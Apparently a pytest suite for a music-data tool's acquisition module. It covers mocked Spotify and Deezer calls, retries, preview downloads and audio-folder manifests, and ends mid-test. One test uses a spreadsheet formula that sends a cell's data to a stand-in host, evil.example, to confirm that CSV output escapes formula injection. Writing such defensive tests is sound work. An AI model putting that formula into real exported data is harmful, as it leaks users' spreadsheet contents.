"""tracklens.acquire, one module per source: Spotify and Deezer offline with `responses`, chart copies,
folder manifests, CLI verbs.

Payloads in tests/fixtures/api/ are shaped from the Spotify OpenAPI spec in ../shared/data/api
(TrackObject, PlaylistTrackObject with `item`, paging objects, ErrorObject) and from the recorded
Deezer responses there. No test touches the network: `responses` refuses unregistered URLs.
"""

from __future__ import annotations

import csv
import json
import logging
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
import requests
import responses
import soundfile as sf
from responses import matchers

from tracklens import config
from tracklens.acquire.charts import acquire_charts
from tracklens.acquire.deezer import deezer_track_by_isrc
from tracklens.acquire.folder import MANIFEST_COLUMNS, folder_manifest, write_manifest
from tracklens.acquire.previews import download_file, download_previews
from tracklens.acquire.rows import read_csv_rows
from tracklens.acquire.spotify import TRACK_COLUMNS, acquire_spotify, parse_spotify_ref, spotify_client
from tracklens.acquire.web import AcquireError, NotFoundError, RateLimitError, RetryPolicy, ServiceError
from tracklens.fileio import file_checksum
from tracklens.errors import CredentialsError, TracklensError

FIXTURES = Path(__file__).parent / "fixtures" / "api"
API = "https://api.spotify.com/v1"
TOKEN_URL = "https://accounts.spotify.com/api/token"
SECRET = "s3cr3t-never-printed"
PLAYLIST = "37i9dQZF1DXcBWIGoYBM5M"
ALBUM = "3cAlbumCCCCCCCCCCCCCCC"
ARTIST = "6vWDO969PvNqNYHIOW5v0m"
T1, T2, T3 = "0TrackOne0000000000001", "0TrackTwo0000000000002", "0TrackThree00000000003"
T4, T5, T6 = "0TrackFour000000000004", "0TrackFive000000000005", "0TrackSix0000000000006"
MP3 = b"ID3\x04\x00\x00\x00\x00\x00\x00" + bytes(range(256)) * 8  # ID3 tag + filler bytes


def fixture(name: str) -> dict:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))


def read_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def sleeps() -> list[float]:
    return []


@pytest.fixture
def policy(sleeps) -> RetryPolicy:
    """Four attempts, 1-2-4 s back-off, recorded instead of slept."""
    return RetryPolicy(max_attempts=4, base_delay=1.0, max_delay=8.0, max_retry_after=60.0,
                       sleep=sleeps.append)


@pytest.fixture
def api():
    """A `responses` mock with Spotify's token endpoint registered; unknown URLs raise."""
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.post(TOKEN_URL, json=fixture("spotify_token.json"))
        yield mock


@pytest.fixture
def client():
    return spotify_client(credentials=("test-client-id", SECRET))


def add_playlist(mock, *, page2_status: int = 200, headers: dict | None = None):
    mock.get(f"{API}/playlists/{PLAYLIST}/items", json=fixture("spotify_playlist_items_page1.json"),
             match=[matchers.query_param_matcher({"limit": "100"}, strict_match=False)])
    page2 = fixture("spotify_playlist_items_page2.json") if page2_status == 200 else fixture(f"spotify_error_{page2_status}.json")
    mock.get(f"{API}/playlists/{PLAYLIST}/items", json=page2, status=page2_status, headers=headers,
             match=[matchers.query_param_matcher({"offset": "3", "limit": "3"})])


def add_enrichment(mock, *, features_status: int = 200):
    mock.get(f"{API}/artists/", json=fixture("spotify_artists_several.json"))
    body = fixture("spotify_audio_features.json") if features_status == 200 else fixture(f"spotify_error_{features_status}.json")
    mock.get(f"{API}/audio-features/", json=body, status=features_status)


def calls_to(mock, fragment: str) -> list:
    return [c for c in mock.calls if fragment in c.request.url]


# --- Spotify: sources -------------------------------------------------------------------------


def test_playlist_follows_next_and_keeps_unicode(api, client, policy, tmp_path):
    add_playlist(api)
    add_enrichment(api)
    out = tmp_path / "tracks.csv"

    result = acquire_spotify("playlist", f"spotify:playlist:{PLAYLIST}", out, client=client,
                             policy=policy, progress=False)

    rows = read_rows(out)
    assert [r["id"] for r in rows] == [T1, T2, T3]  # page 2 reached via `next`
    assert (result.added, result.skipped, result.total_rows) == (3, 2, 3)  # a local file, a removed track
    assert list(rows[0]) == list(TRACK_COLUMNS)
    by_id = {r["id"]: r for r in rows}
    assert by_id[T2]["artists"] == "Beyoncé; Tyler, The Creator"
    assert by_id[T2]["artist_genres"] == "pop; r&b; hip hop; rap"
    assert by_id[T3]["artists"] == "Sigur Rós" and by_id[T3]["album"] == "Ágætis byrjun"  # `track` key (old shape)
    assert by_id[T1]["isrc"] == "USSM11600001" and by_id[T1]["explicit"] == "True"
    assert by_id[T1]["popularity"] == "78" and by_id[T1]["release_date"] == "2016-04-23"
    assert by_id[T1]["danceability"] == "0.71" and by_id[T3]["danceability"] == "0.2"
    assert by_id[T1]["source"] == f"playlist:spotify:playlist:{PLAYLIST}"
    assert not result.unavailable


def test_album_swaps_simplified_tracks_for_full_ones(api, client, policy, tmp_path):
    api.get(f"{API}/albums/{ALBUM}", json=fixture("spotify_album.json"))
    api.get(f"{API}/albums/{ALBUM}/tracks", json=fixture("spotify_album_tracks_page2.json"))
    api.get(f"{API}/tracks/", json=fixture("spotify_tracks_several.json"))
    add_enrichment(api)
    out = tmp_path / "album.csv"

    acquire_spotify("album", f"https://open.spotify.com/album/{ALBUM}?si=x", out, client=client,
                    policy=policy, progress=False)

    rows = read_rows(out)
    assert [r["id"] for r in rows] == [T4, T5, T6]
    assert {r["album"] for r in rows} == {"初恋"} and rows[0]["artists"] == "宇多田ヒカル"
    assert [r["isrc"] for r in rows] == ["JPTO01800004", "JPTO01800005", "JPTO01800006"]  # from /tracks
    assert rows[2]["preview_url"] == "https://p.scdn.co/mp3-preview/abc123"
    assert rows[0]["artist_genres"] == "j-pop"
    assert len(calls_to(api, "/tracks/?ids=")) == 2  # one batch per album page


def test_album_without_several_tracks_endpoint_keeps_album_fields(api, client, policy, tmp_path, caplog):
    api.get(f"{API}/albums/{ALBUM}", json=fixture("spotify_album.json"))
    api.get(f"{API}/albums/{ALBUM}/tracks", json=fixture("spotify_album_tracks_page2.json"))
    api.get(f"{API}/tracks/", json=fixture("spotify_error_403.json"), status=403)
    add_enrichment(api)
    out = tmp_path / "album.csv"

    with caplog.at_level(logging.WARNING, logger="tracklens.acquire"):
        result = acquire_spotify("album", ALBUM, out, client=client, policy=policy, progress=False)

    rows = read_rows(out)
    assert [r["id"] for r in rows] == [T4, T5, T6]
    assert {r["album"] for r in rows} == {"初恋"} and {r["release_date"] for r in rows} == {"2018-06-27"}
    assert {r["isrc"] for r in rows} == {""}  # simplified tracks carry no ISRC
    assert "tracks" in result.unavailable
    assert len(calls_to(api, "/tracks/?ids=")) == 1  # not asked again after the 403
    assert sum("tracks endpoint answered 403" in r.getMessage() for r in caplog.records) == 1


def test_artist_top_tracks(api, client, policy, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"),
            match=[matchers.query_param_matcher({"country": "US"})])
    add_enrichment(api)

    result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                             progress=False)

    assert result.added == 2
    assert [r["name"] for r in read_rows(tmp_path / "t.csv")] == ["Formation", "Sorry (feat. Tyler)"]


def test_search_paginates_and_stops_at_limit(api, client, policy, tmp_path):
    api.get(f"{API}/search", json=fixture("spotify_search_page1.json"),
            match=[matchers.query_param_matcher({"q": "lemonade", "offset": "0"}, strict_match=False)])
    api.get(f"{API}/search", json=fixture("spotify_search_page2.json"),
            match=[matchers.query_param_matcher({"offset": "2"}, strict_match=False)])
    add_enrichment(api)

    limited = acquire_spotify("search", "lemonade", tmp_path / "a.csv", client=client, limit=2,
                              policy=policy, progress=False)
    assert limited.added == 2 and len(calls_to(api, "/search")) == 1  # page 2 never fetched

    full = acquire_spotify("search", "lemonade", tmp_path / "b.csv", client=client, policy=policy,
                           progress=False)
    assert [r["id"] for r in read_rows(tmp_path / "b.csv")] == [T1, T2, T3]
    assert full.added == 3


def test_artist_genres_are_looked_up_50_per_call(api, client, policy, tmp_path):
    base = fixture("spotify_artist_top_tracks.json")["tracks"][0]
    artist_ids = [f"Artist{i:017d}" for i in range(120)]  # 22 characters, base62
    tracks = []
    for i in range(60):
        pair = artist_ids[2 * i:2 * i + 2]
        tracks.append({**base, "id": f"Track{i:017d}", "artists": [{"id": a, "name": f"Ärtist {a[-3:]}", "type": "artist"} for a in pair]})
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json={"tracks": tracks})
    asked = []

    def artists_callback(request):
        ids = request.params["ids"].split(",")
        asked.append(len(ids))
        return 200, {}, json.dumps({"artists": [{"id": a, "name": a, "genres": [f"g{a[-3:]}"]} for a in ids]})

    api.add_callback(responses.GET, f"{API}/artists/", callback=artists_callback)
    api.get(f"{API}/audio-features/", json={"audio_features": []})

    acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy, progress=False)

    assert asked == [50, 50, 20]
    rows = read_rows(tmp_path / "t.csv")
    assert rows[0]["artist_genres"] == "g000; g001" and rows[-1]["artist_genres"] == "g118; g119"


# --- Spotify: faults --------------------------------------------------------------------------


def test_audio_features_403_is_said_once_and_skipped(api, client, policy, tmp_path, caplog):
    add_playlist(api)
    add_enrichment(api, features_status=403)

    with caplog.at_level(logging.WARNING, logger="tracklens.acquire"):
        result = acquire_spotify("playlist", PLAYLIST, tmp_path / "t.csv", client=client,
                                 policy=policy, progress=False)

    warnings = [r for r in caplog.records if "audio-features" in r.getMessage()]
    assert len(warnings) == 1 and "403" in warnings[0].getMessage()
    assert len(calls_to(api, "/audio-features/")) == 1  # two pages, one attempt
    assert "audio-features" in result.unavailable
    rows = read_rows(tmp_path / "t.csv")
    assert len(rows) == 3 and {r["danceability"] for r in rows} == {""}
    assert rows[0]["artist_genres"] == "pop; r&b"  # everything else still filled


def test_401_says_how_to_fix_credentials(api, client, policy, tmp_path):
    api.get(f"{API}/playlists/{PLAYLIST}/items", json=fixture("spotify_error_401.json"), status=401)

    with pytest.raises(CredentialsError) as info:
        acquire_spotify("playlist", PLAYLIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)

    message = str(info.value)
    assert "401" in message and "SPOTIPY_CLIENT_ID" in message and "\n" not in message
    assert SECRET not in message
    assert not (tmp_path / "t.csv").exists()


def test_rejected_client_secret_is_a_credentials_error(client, policy, tmp_path):
    with responses.RequestsMock() as mock:
        mock.post(TOKEN_URL, status=400, json={"error": "invalid_client", "error_description": "Invalid client secret"})
        with pytest.raises(CredentialsError, match="invalid_client") as info:
            acquire_spotify("search", "x", tmp_path / "t.csv", client=client, policy=policy, progress=False)
    assert SECRET not in str(info.value)


def test_token_endpoint_outage_is_retried_not_blamed_on_credentials(client, policy, sleeps, tmp_path):
    with responses.RequestsMock() as mock:
        mock.post(TOKEN_URL, status=503, body="<html>Service Unavailable</html>")
        mock.post(TOKEN_URL, json=fixture("spotify_token.json"))
        mock.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
        add_enrichment(mock)
        result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                                 progress=False)
    assert result.added == 2 and sleeps == [1.0]


def test_404_names_the_item(api, client, policy, tmp_path):
    api.get(f"{API}/playlists/{PLAYLIST}/items", json=fixture("spotify_error_404.json"), status=404)

    with pytest.raises(NotFoundError, match=f"no playlist {PLAYLIST}"):
        acquire_spotify("playlist", PLAYLIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)


def test_429_waits_retry_after_then_succeeds(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_429.json"), status=429,
            headers={"Retry-After": "7"})
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
    add_enrichment(api)

    result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                             progress=False)

    assert sleeps == [7.0]  # the server's hint, not the back-off
    assert result.added == 2


def test_429_storm_gives_up_clearly_and_keeps_rows(api, client, policy, sleeps, tmp_path):
    add_playlist(api, page2_status=429, headers={"Retry-After": "2"})
    add_enrichment(api)
    out = tmp_path / "t.csv"

    with pytest.raises(RateLimitError, match="still rate-limited") as info:
        acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)

    assert "429" in str(info.value) and "re-running resumes" in str(info.value)
    assert sleeps == [2.0, 2.0, 2.0]  # four attempts in all
    assert [r["id"] for r in read_rows(out)] == [T1, T2]  # page 1 was written before the storm
    assert not list(tmp_path.glob(".*.part"))

    api.remove(responses.GET, f"{API}/playlists/{PLAYLIST}/items")  # the storm is over
    add_playlist(api)
    resumed = acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)
    assert [r["id"] for r in read_rows(out)] == [T1, T2, T3]
    assert (resumed.added, resumed.already_present) == (1, 2)


def test_retry_after_beyond_the_limit_gives_up_at_once(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_429.json"), status=429,
            headers={"Retry-After": "3600"})

    with pytest.raises(RateLimitError, match="3600 s"):
        acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)
    assert sleeps == []


def test_5xx_backs_off_exponentially_then_succeeds(api, client, policy, sleeps, tmp_path):
    for status in (503, 502):
        api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_503.json"), status=status)
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
    add_enrichment(api)

    result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                             progress=False)

    assert sleeps == [1.0, 2.0]
    assert result.added == 2
    assert len(calls_to(api, "/top-tracks")) == 3  # spotipy's own retries are off: we count every call


def test_5xx_storm_is_reported_as_a_server_error_not_a_rate_limit(api, client, policy, sleeps, tmp_path):
    # spotipy's default urllib3 retries would answer "429 Max Retries" after 4 silent calls
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_503.json"), status=503)

    with pytest.raises(ServiceError, match="HTTP 503"):
        acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)
    assert len(calls_to(api, "/top-tracks")) == 4 and sleeps == [1.0, 2.0, 4.0]


def test_timeouts_are_retried_and_then_reported(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", body=requests.exceptions.ReadTimeout("read timed out"))

    with pytest.raises(ServiceError, match="timed out.*4 attempts"):
        acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)
    assert sleeps == [1.0, 2.0, 4.0]


def test_connection_error_then_success(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", body=requests.exceptions.ConnectionError("reset"))
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
    add_enrichment(api)

    assert acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                           progress=False).added == 2
    assert sleeps == [1.0]


def test_backoff_is_bounded():
    policy = RetryPolicy(base_delay=1.0, max_delay=5.0)
    assert [policy.backoff(n) for n in range(1, 6)] == [1.0, 2.0, 4.0, 5.0, 5.0]


def test_missing_credentials_say_how_to_set_them(monkeypatch):
    monkeypatch.delenv("SPOTIPY_CLIENT_ID", raising=False)
    monkeypatch.delenv("SPOTIPY_CLIENT_SECRET", raising=False)
    monkeypatch.setattr(config, "load_dotenv_once", lambda: None)  # a developer's .env must not leak in

    with pytest.raises(CredentialsError) as info:
        spotify_client()
    message = str(info.value)
    assert "SPOTIPY_CLIENT_ID" in message and "SPOTIPY_CLIENT_SECRET" in message and ".env" in message


def test_resume_never_duplicates(api, client, policy, tmp_path):
    add_playlist(api)
    add_enrichment(api)
    out = tmp_path / "t.csv"
    acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)
    first = out.read_bytes()
    artist_calls = len(calls_to(api, "/artists/"))

    again = acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)

    assert (again.added, again.already_present, again.total_rows) == (0, 3, 3)
    assert out.read_bytes() == first
    assert len(calls_to(api, "/artists/")) == artist_calls  # known tracks need no look-ups


def test_formula_track_names_are_escaped_and_resume_reads_them_back(api, client, policy, tmp_path):
    from tracklens import fileio

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Formation")'
    top = fixture("spotify_artist_top_tracks.json")
    top["tracks"][0]["name"] = formula
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=top)
    add_playlist(api)  # the same two tracks and one new one: resuming rewrites the file
    add_enrichment(api)
    out = tmp_path / "t.csv"
    acquire_spotify("artist", ARTIST, out, client=client, policy=policy, progress=False)
    again = acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)

    assert (again.added, again.already_present) == (1, 2)
    assert read_rows(out)[0]["name"] == "'" + formula  # raw: a spreadsheet shows it as text
    rows, _ = read_csv_rows(out, required=("id",), purpose="a tracks CSV")
    assert rows[0]["name"] == formula  # read back unchanged, not escaped twice by the resume
    assert fileio.read_csv(out)["name"].iloc[0] == formula


def test_refuses_to_resume_into_a_foreign_csv(client, policy, tmp_path):
    out = tmp_path / "other.csv"
    out.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(TracklensError, match=re.escape(str(out)) + ".*id"):
        acquire_spotify("artist", ARTIST, out, client=client, policy=policy, progress=False)


@pytest.mark.parametrize("kind, ref, expected", [
    ("album", ALBUM, ALBUM),
    ("album", f"spotify:album:{ALBUM}", ALBUM),
    ("playlist", f"https://open.spotify.com/intl-de/playlist/{PLAYLIST}?si=abc", PLAYLIST),
])
def test_parse_spotify_ref(kind, ref, expected):
    assert parse_spotify_ref(kind, ref) == expected


@pytest.mark.parametrize("ref, match", [("not an id", "not a Spotify album"), (f"spotify:track:{T1}", "is a Spotify track")])
def test_parse_spotify_ref_rejects(ref, match):
    with pytest.raises(TracklensError, match=match):
        parse_spotify_ref("album", ref)


# --- previews ---------------------------------------------------------------------------------

DEEZER = "https://api.deezer.com/track/isrc:{}"
DEEZER_PREVIEW = fixture("deezer_track_isrc.json")["preview"]


def preview_rows():
    return [
        {"id": T3, "isrc": "GBAAA9900003", "preview_url": ""},          # Deezer by ISRC
        {"id": T6, "isrc": "", "preview_url": "https://p.scdn.co/mp3-preview/abc123"},  # Spotify's own URL
        {"id": T1, "isrc": "USSM11600001", "preview_url": ""},          # not on Deezer
        {"id": T2, "isrc": "", "preview_url": ""},                      # nothing to go on
        {"id": T4, "isrc": "JPTO01800004", "preview_url": ""},          # on Deezer without a preview
    ]


def add_deezer(mock, *, preview_body: bytes = MP3, preview_headers: dict | None = None):
    mock.get(DEEZER.format("GBAAA9900003"), json=fixture("deezer_track_isrc.json"))
    mock.get(DEEZER.format("USSM11600001"), json=fixture("deezer_error_not_found.json"))  # HTTP 200 + error body
    mock.get(DEEZER.format("JPTO01800004"), json={**fixture("deezer_track_isrc.json"), "id": 4, "preview": ""})
    mock.get(DEEZER_PREVIEW.split("?")[0], body=preview_body, headers=preview_headers,
             auto_calculate_content_length=preview_headers is None)


def test_previews_download_skip_and_explain_failures(policy, tmp_path):
    out = tmp_path / "previews"
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        add_deezer(mock)
        mock.get("https://p.scdn.co/mp3-preview/abc123", body=MP3)
        report = download_previews(preview_rows(), out, workers=3, policy=policy, progress=False)

    assert sorted(report.downloaded) == sorted([T3, T6])
    assert (out / f"{T3}.mp3").read_bytes() == MP3 and (out / f"{T6}.mp3").read_bytes() == MP3
    assert set(report.failed) == {T1, T2, T4}
    assert report.failed[T1].startswith("not found: Deezer has no track with ISRC USSM11600001")
    assert report.failed[T2].startswith("no preview:") and "no ISRC" in report.failed[T2]
    assert report.failed[T4].startswith("no preview:")
    summary = "\n".join(report.summary_lines())
    assert "2 downloaded, 0 already there, 3 failed" in summary and "2 no preview" in summary
    assert sorted(p.name for p in out.iterdir()) == sorted([f"{T3}.mp3", f"{T6}.mp3"])

    with responses.RequestsMock() as mock:  # second run: nothing to fetch for the two files
        mock.get(DEEZER.format("USSM11600001"), json=fixture("deezer_error_not_found.json"))
        mock.get(DEEZER.format("JPTO01800004"), json={**fixture("deezer_track_isrc.json"), "preview": ""})
        again = download_previews(preview_rows(), out, workers=2, policy=policy, progress=False)
    assert sorted(again.skipped) == sorted([T3, T6]) and not again.downloaded


def test_interrupted_download_never_leaves_a_final_file_and_rerun_completes(tmp_path, sleeps):
    rows = [preview_rows()[0]]
    out = tmp_path / "previews"
    one_try = RetryPolicy(max_attempts=1, sleep=sleeps.append)
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        add_deezer(mock, preview_body=MP3[:1000], preview_headers={"Content-Length": str(len(MP3))})
        report = download_previews(rows, out, policy=one_try, progress=False)

    assert report.failed[T3].startswith("network/server error:") and "cut off" in report.failed[T3]
    assert list(out.iterdir()) == []  # neither the final name nor a temp file

    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        add_deezer(mock)
        report = download_previews(rows, out, policy=one_try, progress=False)
    assert report.downloaded == [T3] and (out / f"{T3}.mp3").read_bytes() == MP3


def test_cut_download_is_retried_within_a_run(policy, sleeps, tmp_path):
    dest = tmp_path / "x.mp3"
    with responses.RequestsMock() as mock:
        mock.get("https://cdn.test/x.mp3", body=MP3[:100], headers={"Content-Length": str(len(MP3))},
                 auto_calculate_content_length=False)
        mock.get("https://cdn.test/x.mp3", body=MP3)
        assert download_file("https://cdn.test/x.mp3", dest, policy=policy) == len(MP3)
    assert dest.read_bytes() == MP3 and sleeps == [1.0]


def test_deezer_quota_error_in_a_200_body_is_retried(policy, sleeps):
    with responses.RequestsMock() as mock:
        mock.get(DEEZER.format("GBAAA9900003"), json=fixture("deezer_error_quota.json"))
        mock.get(DEEZER.format("GBAAA9900003"), json=fixture("deezer_track_isrc.json"))
        track = deezer_track_by_isrc("gbaaa9900003", policy=policy)
    assert track["preview"] == DEEZER_PREVIEW and sleeps == [1.0]


def test_non_audio_body_is_refused(policy, tmp_path):
    with responses.RequestsMock() as mock:
        mock.get("https://cdn.test/x.mp3", body=b"<html>expired</html>")
        with pytest.raises(AcquireError, match="not an MP3"):
            download_file("https://cdn.test/x.mp3", tmp_path / "x.mp3", policy=policy)
    assert list(tmp_path.iterdir()) == []


def test_download_concurrency_is_bounded(policy, tmp_path):
    active, peak, lock = [0], [0], threading.Lock()

    def slow_mp3(request):
        with lock:
            active[0] += 1
            peak[0] = max(peak[0], active[0])
        time.sleep(0.05)  # long enough for the pool to overlap calls on a loaded machine
        with lock:
            active[0] -= 1
        return 200, {}, MP3

    rows = [{"id": f"Track{i:017d}", "isrc": "", "preview_url": f"https://cdn.test/{i}.mp3"} for i in range(12)]
    with responses.RequestsMock() as mock:
        mock.add_callback(responses.GET, re.compile(r"https://cdn\.test/\d+\.mp3"), callback=slow_mp3)
        report = download_previews(rows, tmp_path, workers=3, policy=policy, progress=False)
    assert len(report.downloaded) == 12
    assert 1 < peak[0] <= 3


def test_previews_csv_needs_id_and_isrc_or_url(tmp_path):
    bad = tmp_path / "t.csv"
    bad.write_text("id,name\nx,y\n", encoding="utf-8")
    with pytest.raises(TracklensError, match="isrc"):
        download_previews(bad, tmp_path / "p", progress=False)
    with pytest.raises(TracklensError, match="no such file"):
        download_previews(tmp_path / "missing.csv", tmp_path / "p", progress=False)


@pytest.mark.realdata
def test_recorded_deezer_responses_parse(shared_data, policy):
    recorded = json.loads((shared_data / "api" / "deezer-track-by-isrc.json").read_text(encoding="utf-8"))
    error = json.loads((shared_data / "api" / "deezer-error.json").read_text(encoding="utf-8"))
    with responses.RequestsMock() as mock:
        mock.get(DEEZER.format(recorded["isrc"]), json=recorded)
        mock.get(DEEZER.format("XXAAA0000000"), json=error)
        track = deezer_track_by_isrc(recorded["isrc"], policy=policy)
        with pytest.raises(AcquireError, match="Deezer error 200"):
            deezer_track_by_isrc("XXAAA0000000", policy=policy)
    assert track["preview"].startswith("https://") and ".mp3" in track["preview"]


# --- local sources ----------------------------------------------------------------------------

CHART_HEADER = ("artist,song,duration_ms,explicit,year,popularity,danceability,energy,key,loudness,mode,"
                "speechiness,acousticness,instrumentalness,liveness,valence,tempo,genre")


def write_charts(path: Path) -> Path:
    path.write_text(
        CHART_HEADER + "\n"
        "Beyoncé,Formation,206000,True,2016,78,0.7,0.8,1,-5.1,1,0.2,0.01,0.0,0.1,0.6,123.0,\"pop, R&B\"\n"
        "Sigur Rós,Svefn-g-englar,604000,False,2000,55,0.2,0.3,4,-14.0,0,0.03,0.5,0.8,0.1,0.1,70.0,rock\n"
        "Måneskin,Beggin',211000,False,2017,84,0.7,0.9,11,-4.8,0,0.05,0.1,0.0,0.3,0.6,134.0,rock\n",
        encoding="utf-8")
    return path


def test_charts_are_validated_and_copied_atomically(tmp_path):
    source = write_charts(tmp_path / "hits.csv")
    result = acquire_charts(source, tmp_path / "raw")
    assert result.copied and result.rows == 3 and result.path == tmp_path / "raw" / "hits.csv"
    assert file_checksum(result.path) == file_checksum(source)

    again = acquire_charts(source, tmp_path / "raw")
    assert not again.copied
    renamed = acquire_charts(source, tmp_path / "raw" / "charts.csv")
    assert renamed.path.name == "charts.csv" and renamed.copied


@pytest.mark.parametrize("content, match", [
    (None, "no such file"),
    ("", "empty"),
    ("artist,song\nA,B\n", "popularity|column"),
])
def test_bad_chart_csv_is_refused_naming_the_file(tmp_path, content, match):
    path = tmp_path / "charts.csv"
    if content is not None:
        path.write_text(content, encoding="utf-8")
    with pytest.raises(TracklensError, match=match) as info:
        acquire_charts(path, tmp_path / "raw")
    assert "charts.csv" in str(info.value)
    assert not (tmp_path / "raw").exists() or not list((tmp_path / "raw").iterdir())


@pytest.fixture(scope="module")
def audio_folder(tmp_path_factory) -> Path:
    """rock/ and jazz/ sub-folders, GTZAN names at the root, and three unusable .wav files."""
    root = tmp_path_factory.mktemp("audio")
    sr = 8000
    tone = (0.3 * np.sin(2 * np.pi * 440 * np.arange(2 * sr) / sr)).astype(np.float32)
    (root / "rock").mkdir()
    (root / "jazz").mkdir()
    sf.write(root / "rock" / "song one.wav", tone, sr)
    sf.write(root / "jazz" / "jazz.00042.flac", np.stack([tone, tone], axis=1), sr)
    sf.write(root / "blues.00001.wav", tone[:sr], sr)
    good = (root / "rock" / "song one.wav").read_bytes()
    (root / "rock" / "corrupt.wav").write_bytes(good[:20] + bytes(range(256)) * 4)  # header cut into noise
    (root / "rock" / "empty.wav").write_bytes(b"")
    (root / "notes.wav").write_text("these are my notes, not audio\n", encoding="utf-8")
    (root / "README.txt").write_text("ignored", encoding="utf-8")
    (root / ".hidden.wav").write_bytes(b"junk")
    return root


def test_folder_manifest_labels_and_lists_unreadable_files(audio_folder):
    frame = folder_manifest(audio_folder, progress=False)

    assert list(frame.columns) == list(MANIFEST_COLUMNS)
    names = {Path(p).name: row for p, row in zip(frame["path"], frame.to_dict("records"))}
    assert set(names) == {"song one.wav", "jazz.00042.flac", "blues.00001.wav", "corrupt.wav", "empty.wav", "notes.wav"}
    assert names["song one.wav"]["label"] == "rock"
    assert names["jazz.00042.flac"]["label"] == "jazz" and names["jazz.00042.flac"]["channels"] == 2
    assert names["blues.00001.wav"]["label"] == "blues"  # GTZAN-style file name at the root
    assert names["song one.wav"]["duration_s"] == pytest.approx(2.0) and names["song one.wav"]["sample_rate"] == 8000
    assert names["song one.wav"]["checksum"] == file_checksum(audio_folder / "rock" / "song one.wav")
    assert names["empty.wav"]["error"] == "empty file (0 bytes)"
    assert names["corrupt.wav"]["error"]  # the decoder's reason (a noise header: a wild channel count)
    assert "not readable as audio" in names["notes.wav"]["error"]
    assert names["notes.wav"]["label"] == ""
    assert frame.loc[frame["error"] != "", "duration_s"].isna().all()
    assert frame.loc[frame["error"] == "", "duration_s"].notna().all()


def test_folder_manifest_decode_catches_silence(tmp_path):
    sf.write(tmp_path / "silent.wav", np.zeros(16000, dtype=np.float32), 8000)
    header_only = folder_manifest(tmp_path, progress=False)
    decoded = folder_manifest(tmp_path, decode=True, progress=False)
    assert header_only["error"].tolist() == [""]
    assert "silent" in decoded["error"].iloc[0]


def test_folder_manifest_lists_non_regular_files_and_never_hangs(tmp_path):
    from tracklens import fileio

    root = tmp_path / "music"
    (root / "x.wav").mkdir(parents=True)  # a folder named like audio; its clip still counts
    sf.write(root / "x.wav" / "inside.wav", np.full(8000, 0.1, dtype=np.float32), 8000)
    os.mkfifo(root / "fifo.wav")  # opening it for reading blocks until a writer comes: never
    (root / "zero.wav").symlink_to("/dev/zero")  # endless bytes: checksumming never ends
    (root / "loop.wav").symlink_to(root / "loop.wav")
    (root / "dangling.wav").symlink_to(root / "gone.wav")
    out = tmp_path / "manifest.csv"
    code = f"from tracklens.acquire.folder import write_manifest; write_manifest({str(root)!r}, {str(out)!r}, progress=False)"
    try:  # in a child process: a regression must fail this test, not hang the suite
        proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("acquire folder hung on a FIFO or an endless device file")
    assert proc.returncode == 0, proc.stderr
    manifest = fileio.read_csv(out, keep_default_na=False)
    errors = dict(zip(manifest["path"].map(lambda p: Path(p).name), manifest["error"]))
    assert errors == {"x.wav": "not a regular file (a folder)", "inside.wav": "",
                      "fifo.wav": "not a regular file (a FIFO)", "zero.wav": "not a regular file (a device)",
                      "loop.wav": "broken link (a loop of symlinks)",
                      "dangling.wav": "broken link (points to nothing)"}


def test_manifest_escapes_formula_file_names_and_reads_back(tmp_path, monkeypatch):
    from tracklens import fileio

    tone = np.full(8000, 0.1, dtype=np.float32)
    (tmp_path / "=cmd").mkdir()
    for name in ("=cmd.wav", "+x.wav", "@x.wav", "=cmd/-2+3.wav"):
